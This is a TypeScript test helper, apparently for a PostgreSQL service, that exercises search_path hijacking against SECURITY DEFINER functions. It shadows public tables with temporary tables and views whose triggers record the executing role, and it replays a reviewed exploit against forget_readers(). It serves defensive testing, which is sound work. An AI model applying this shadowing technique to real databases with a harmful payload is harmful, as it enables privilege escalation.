/**
 * Attacks definer functions with SQL in the role of the service. It creates temporary tables and
 * views that have the names of the service's tables and record the role that uses them.
 */
import type pg from 'pg'

/** The roles that executed the attacker's code. */
type Seen = ReadonlySet<string>

const NOTE = `create or replace function pg_temp.note() returns boolean language plpgsql as $$
begin
  perform pg_catalog.set_config('attack.seen', pg_catalog.concat_ws(' ',
    nullif(pg_catalog.current_setting('attack.seen', true), ''), current_user), false);
  return true;
end $$;
create or replace function pg_temp.note_trigger() returns trigger language plpgsql as $$
begin
  perform pg_temp.note();
  return null;
end $$`

/** The exploit that the security review found. Here, it only records the role. */
const REVIEWED_EXPLOIT = [
  'create temp table reader_session (project_id bigint, token_hash bytea, expires_at timestamptz)',
  'create trigger t before delete on reader_session for each row execute function pg_temp.note_trigger()',
  `insert into reader_session values (1, '\\x00', now() - interval '1 day')`,
  'select forget_readers()',
]

export async function runReviewedExploit(client: pg.Client): Promise<Seen> {
  await client.query('discard temp')
  await client.query(NOTE)
  for (const statement of REVIEWED_EXPLOIT) await client.query(statement)
  return takeSeenNames(client)
}

/** Shadows every table, then calls every definer function that the current role may call. */
export async function shadowAllTables(
  client: pg.Client,
  kind: 'tables' | 'views',
): Promise<{ readonly seen: Seen; readonly called: number }> {
  await client.query('discard temp')
  await client.query(NOTE)
  await client.query(`do $$ declare name text; begin
    for name in select c.relname from pg_class c
      where c.relnamespace = 'public'::regnamespace and c.relkind in ('r', 'p')
    loop
      ${kind === 'tables' ? SHADOW_TABLE : SHADOW_VIEW}
    end loop;
  end $$`)
  // This has no effect on functions with a fixed search path.
  await client.query('set search_path = pg_temp, public')
  const { rows } = await client.query<{ call: string }>(
    `select format('select %s.%I(%s)', p.pronamespace::regnamespace, p.proname, (
              select string_agg(format('null::%s', format_type(a.type, null)), ', ' order by a.place)
                from unnest(p.proargtypes) with ordinality as a (type, place))) as call
       from pg_proc p
      where p.prosecdef and has_function_privilege(p.oid, 'execute') and p.prorettype <> 'trigger'::regtype`,
  )
  // Some calls fail because their arguments are null, but only after they have used their tables.
  for (const { call } of rows) await client.query(call).catch(() => {})
  return { seen: await takeSeenNames(client), called: rows.length }
}

/** Creates a temporary table with a statement trigger, which runs even if no row matches. */
const SHADOW_TABLE = `execute format('create temp table %1$I as select (null::public.%1$I).*', name);
  execute format('create trigger t before insert or update or delete on pg_temp.%I
    for each statement execute function pg_temp.note_trigger()', name);`
const SHADOW_VIEW = `execute format(
    'create temp view %1$I as select (null::public.%1$I).* where pg_temp.note()', name);`

async function takeSeenNames(client: pg.Client): Promise<Seen> {
  const { rows } = await client.query<{ seen: string | null }>(
    `select nullif(current_setting('attack.seen', true), '') as seen`,
  )
  await client.query(`set attack.seen = ''`)
  return new Set(rows[0]?.seen?.split(' '))
}
